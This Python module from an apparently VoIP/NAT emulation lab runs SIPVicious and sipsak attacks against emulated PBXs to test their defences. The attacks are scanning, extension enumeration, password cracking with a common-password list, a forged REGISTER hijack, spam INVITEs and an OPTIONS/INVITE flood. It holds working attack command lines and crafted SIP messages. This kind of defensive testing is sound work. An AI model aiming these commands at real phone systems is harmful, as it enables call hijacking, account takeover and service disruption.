"""An attacker on the public side (host atk) aims a real tool at the routers' public addresses
while the PBXs run protected (the default) or `insecure`: svmap (scan), svwar (enumerate the
extensions), svcrack (guess a password from a word list), sipsak (REGISTER hijack, an INVITE
from a stranger, an OPTIONS/INVITE flood during a real call 1002 -> 2005).

Every attack is bounded in count and time and aimed only at the emulation's own public
addresses. The tool's command line, exit code and output go to agents/attacker.json, its
packets to atk.pcap: what analysis.attack reads."""
from __future__ import annotations

import json
import subprocess
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from analysis.attack import ATTACKS, judge_attack
from analysis.expect import ATTACK_VERDICTS
from analysis.qos import Direction, call_qos
from analysis.verdict import Verdict, judge_call
from capture.tcpdump import start_captures
from natlab.constants import (
    ATTACKER_NODE,
    CALLEE_GRACE_S,
    READY_TIMEOUT_S,
    ROUND_SLACK_S,
    SIP_PORT,
    TRUNK_PORT,
)
from scenarios.agentproc import (
    agent_args,
    call_dir,
    end_agent,
    phone_args,
    start_agent,
    wait_file,
)
from scenarios.kinds.base import CallInput, Kind, RoundContext
from scenarios.model import Call, Scenario
from services.credentials import check_password
from topology.plan import ConfigError, Plan, phone_name

# svcrack's word list: common passwords of 8+ characters (the PBX takes no shorter ones)
WORDS = ("12345678", "123456789", "password", "password1", "qwerty123", "iloveyou",
         "sunshine", "princess", "football", "welcome1", "letmein1", "admin123", "changeme",
         "trustno1", "baseball", "superman", "michael1", "shadow12", "secret12", "1q2w3e4r")
TOOL_TIMEOUT_S = 15  # no tool runs longer (timeout -s INT, then KILL) ...
CRACK_TIMEOUT_S = 8  # ... svcrack less: against a refusing PBX it retries until told to stop
MAX_IDLE_S = 3  # sipvicious stops after this long without an answer
FLOOD_ROUNDS = 40  # bursts of the flood ...
FLOOD_BURST = 20  # ... of this many OPTIONS each ...
FLOOD_PERIOD_S = 0.1  # ... one per period (~200 requests/s for ~4-5 s) ...
FLOOD_INVITE_EVERY = 4  # ... and an INVITE every this many bursts (10 INVITEs)
FLOOD_DELAY_S = 1.5  # the flood starts this long after the caller (the call is up)
SPAM_FROM = "0900123456"  # the caller a stranger pretends to be


@dataclass(frozen=True)
class AttackSpec:
    attack: str  # one of ATTACKS
    weak_password: str | None = None  # the target extension's password in this scenario
    phones: tuple[str, ...] = ()  # phones registered while the attack runs


def target_port(sc: Scenario) -> int:
    """The port r1 forwards to PBX1 for this scenario's trunk (5080 nat-aware, 5060 naive)."""
    return TRUNK_PORT if sc.trunk == "nat-aware" else SIP_PORT


class AttackKind(Kind):
    name = "attack"
    keys = frozenset({"attack", "weak_password"})
    verdicts = ATTACK_VERDICTS

    def parse(self, where: str, data: dict[str, Any], plan: Plan) -> AttackSpec:
        attack = data.get("attack")
        if attack not in ATTACKS:
            raise ConfigError(f"{where}: attack must be one of {', '.join(ATTACKS)}, "
                              f"got {attack!r}")
        if plan.servers.attacker is None:
            raise ConfigError(f"{where}: an attack needs servers.attacker in the config")
        weak = data.get("weak_password")
        if weak is not None:
            if attack != "crack":
                raise ConfigError(f"{where}: weak_password is for attack = \"crack\"")
            try:
                check_password("weak_password", weak if isinstance(weak, str) else "")
            except ValueError as exc:
                raise ConfigError(f"{where}: {exc}") from None
        callee = str(data.get("callee", plan.call.callee))
        lan = plan.lan_of(callee)
        phones = {"scan": (), "crack": (), "flood": (str(data.get("caller", plan.call.caller)),
                                                    callee),
                  "enumerate": tuple(sorted(lan.phones))}.get(str(attack), (callee,))
        return AttackSpec(str(attack), weak, tuple(phones))

    def fields(self, spec: Any) -> dict[str, str]:
        return {"attack": spec.attack}

    def credentials(self, sc: Scenario, creds: dict[str, str]) -> dict[str, str]:
        weak = sc.spec.weak_password
        return creds if weak is None else {**creds, sc.callee: weak}

    def phones(self, sc: Scenario, calls: list[Call]) -> set[str]:
        """The phones that are up while the attack runs (registered; 2005 rings or talks)."""
        return set(sc.spec.phones)

    def run_round(self, ctx: RoundContext, calls: list[Call]) -> None:
        sc, plan = ctx.sc, ctx.plan
        agents = call_dir(sc, calls[0], ctx.outdir) / "agents"
        agents.mkdir(parents=True, exist_ok=True)
        atk = ctx.net.attacker
        start_captures([(atk, f"{ATTACKER_NODE}-eth0", ctx.outdir / f"{ATTACKER_NODE}.pcap")],
                       ctx.stack)
        if sc.spec.attack == "flood":
            self._flood(ctx, calls[0], agents)
            return
        phones = []
        for ext in sorted(self.phones(sc, calls)):
            args = phone_args(plan, sc, ext, f"phone-{ext}", plan.call.callee_tone_hz, agents,
                              ["--no-answer"], ctx.password(ext))
            proc = start_agent(ctx.net.phone(ext), args, agents / f"phone-{ext}.log")
            ctx.stack.callback(end_agent, proc, 0.1)
            phones.append((proc, ext))
        for proc, ext in phones:
            wait_file(agents / f"phone-{ext}.ready", proc, READY_TIMEOUT_S, f"phone {ext}")
        command = self.command(plan, sc, ctx.outdir / "attack")
        _run_tool(atk, command, agents / "attacker.json", sc, plan)
        for proc, _ in phones:
            end_agent(proc, 0.1)

    def judge(self, inp: CallInput) -> Verdict:
        sc = inp.sc
        call, qos, died = None, [], {}
        if sc.spec.attack == "flood":
            call = judge_call(inp.plan, inp.subject, inp.spec(), inp.reports, inp.caps,
                              inp.call.seconds)
            qos = self.qos(inp)
            died = _died(inp)
        outcome = judge_attack(inp.plan, sc.spec.attack, sc.insecure,
                               inp.reports.get("attacker", {}),
                               inp.caps.sip.get(ATTACKER_NODE, []),
                               _pbx_log(inp.folder, inp.plan), call, qos, died)
        return outcome.verdict(inp.subject, call)

    def qos(self, inp: CallInput) -> list[Direction]:
        """The legitimate call's QoS during a flood (the other attacks have no call)."""
        if inp.sc.spec.attack != "flood":
            return []
        c = inp.call
        return call_qos(c.label, c.caller, c.callee, inp.ip(c.caller), inp.ip(c.callee),
                        inp.caps.packets(phone_name(c.caller)),
                        inp.caps.packets(phone_name(c.callee)))

    def _flood(self, ctx: RoundContext, call: Call, agents: Path) -> None:
        """The real call 1002 -> 2005 as the call kind runs it, the flood in the middle."""
        callee = start_agent(ctx.net.phone(call.callee),
                             agent_args(ctx.plan, ctx.sc, call, "callee", agents, [], ctx.creds),
                             agents / "callee.log")
        ctx.stack.callback(end_agent, callee, 0.1)
        wait_file(agents / "callee.ready", callee, READY_TIMEOUT_S, f"callee {call.callee}")
        caller = start_agent(ctx.net.phone(call.caller),
                             agent_args(ctx.plan, ctx.sc, call, "caller", agents, [], ctx.creds),
                             agents / "caller.log")
        ctx.stack.callback(end_agent, caller, 0.1)
        deadline = time.monotonic() + ctx.sc.duration_s + ROUND_SLACK_S
        time.sleep(FLOOD_DELAY_S)
        command = self.command(ctx.plan, ctx.sc, ctx.outdir / "attack")
        _run_tool(ctx.net.attacker, command, agents / "attacker.json", ctx.sc, ctx.plan)
        end_agent(caller, max(0.1, deadline - time.monotonic()))
        end_agent(callee, CALLEE_GRACE_S)

    def command(self, plan: Plan, sc: Scenario, files: Path) -> list[str]:
        """The tool's command line (files it reads are written under `files`)."""
        files.mkdir(parents=True, exist_ok=True)
        r1, r2 = plan.lans[0].wan_ip, plan.lans[1].wan_ip
        me, port, ext = plan.servers.attacker or "", target_port(sc), sc.callee
        idle = ["--maximumtime", str(MAX_IDLE_S)]
        attack = sc.spec.attack
        if attack == "scan":
            return ["svmap", "-x", me, "-p", f"{SIP_PORT},{TRUNK_PORT}", r1, r2]
        if attack == "enumerate":
            lan = plan.lan_of(ext)
            low, high = f"{lan.prefix}000", f"{lan.prefix}010"
            return ["svwar", "-x", me, "-m", "OPTIONS", "-e", f"{low}-{high}", "-p", str(port),
                    *idle, r1]
        if attack == "crack":
            words = files / "words.txt"
            words.write_text("\n".join(WORDS) + "\n")
            return ["svcrack", "-x", me, "-u", ext, "-d", str(words), "-p", str(port), *idle, r1]
        uri = f"sip:{ext}@{r1}:{port}"
        if attack == "hijack":
            msg = files / "register.txt"
            msg.write_text(_register(ext, r1, port, me))
            return ["sipsak", "-vv", "-H", me, "-f", str(msg), "-s", f"sip:{r1}:{port}"]
        if attack == "invite":
            msg = files / "invite.txt"
            msg.write_text(_invite(ext, r1, me, 1))
            return ["sipsak", "-vv", "-H", me, "--timeout-factor", "4", "-f", str(msg),
                    "-s", uri]
        invites = FLOOD_ROUNDS // FLOOD_INVITE_EVERY
        for i in range(1, invites + 1):
            (files / f"invite-{i:02d}.txt").write_text(_invite(ext, r1, me, i))
        script = (f"for i in $(seq 1 {FLOOD_ROUNDS}); do "
                  f"sipsak -F -H {me} -e {FLOOD_BURST} -s {uri} | tail -n 1; "
                  f"if [ $((i % {FLOOD_INVITE_EVERY})) -eq 0 ]; then "
                  f"n=$(printf %02d $((i / {FLOOD_INVITE_EVERY}))); "
                  f"timeout 2 sipsak -H {me} --timeout-factor 2 -f {files}/invite-$n.txt "
                  f"-s {uri} "
                  "| head -n 1 & fi; "
                  f"sleep {FLOOD_PERIOD_S}; done; wait")
        return ["bash", "-c", script]


def _run_tool(host: Any, command: list[str], report: Path, sc: Scenario, plan: Plan) -> None:
    """Run the tool on the attacker host, bounded; keep what it did as data."""
    started = time.time()
    limit = CRACK_TIMEOUT_S if sc.spec.attack == "crack" else TOOL_TIMEOUT_S
    bounded = ["timeout", "-s", "INT", "-k", "2", str(limit), *command]
    proc = host.popen(bounded, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        out, err = proc.communicate(timeout=limit + 5)
    except subprocess.TimeoutExpired:
        proc.kill()
        out, err = proc.communicate()
    report.write_text(json.dumps({
        "attack": sc.spec.attack, "insecure": sc.insecure, "trunk": sc.trunk,
        "variant": _variant(sc),
        "attacker": plan.servers.attacker, "target_port": target_port(sc),
        "command": command, "timeout_s": limit, "exit": proc.returncode,
        "started": started, "seconds": round(time.time() - started, 3),
        "stdout": out.decode(errors="replace"), "stderr": err.decode(errors="replace"),
    }, indent=2) + "\n")


def _variant(sc: Scenario) -> str:
    if sc.insecure:
        return "insecure"
    return "protected, weak password" if sc.spec.weak_password else "protected"


def _register(ext: str, host: str, port: int, me: str) -> str:
    """A REGISTER that binds `ext` to the attacker's address (sipsak adds the Via)."""
    return (f"REGISTER sip:{host}:{port} SIP/2.0\r\n"
            f"From: <sip:{ext}@{host}>;tag=atk-reg\r\nTo: <sip:{ext}@{host}>\r\n"
            f"Call-ID: atk-register-{ext}@{me}\r\nCSeq: 1 REGISTER\r\n"
            f"Contact: <sip:{ext}@{me}:{SIP_PORT}>\r\nExpires: 300\r\nMax-Forwards: 70\r\n"
            "Content-Length: 0\r\n\r\n")


def _invite(ext: str, host: str, me: str, n: int) -> str:
    """An INVITE from a stranger to `ext` (no SDP: the phone would offer in its answer)."""
    return (f"INVITE sip:{ext}@{host} SIP/2.0\r\n"
            f"From: \"spam\" <sip:{SPAM_FROM}@{me}>;tag=atk-{n}\r\nTo: <sip:{ext}@{host}>\r\n"
            f"Call-ID: atk-invite-{n}@{me}\r\nCSeq: 1 INVITE\r\n"
            f"Contact: <sip:{SPAM_FROM}@{me}:{SIP_PORT}>\r\nMax-Forwards: 70\r\n"
            "Content-Length: 0\r\n\r\n")


def _died(inp: CallInput) -> dict[str, str]:
    """Phones of the call whose agent wrote no report: extension -> its log's last line."""
    out = {}
    for role, ext in (("caller", inp.call.caller), ("callee", inp.call.callee)):
        if role in inp.reports or inp.folder is None:
            continue
        log = inp.folder / inp.call.dir / "agents" / f"{role}.log"
        lines = log.read_text(errors="replace").strip().splitlines() if log.exists() else []
        out[ext] = lines[-1].split("Traceback")[0].strip() if lines else "(no log)"
    return out


def _pbx_log(folder: Path | None, plan: Plan) -> str:
    """PBX1's log (the PBX behind the attacked router), empty when it is not there."""
    if folder is None:
        return ""
    name = plan.lans[0].pbx_name
    path = folder / name / f"{name}.log"
    return path.read_text(errors="replace") if path.exists() else ""


KIND = AttackKind()
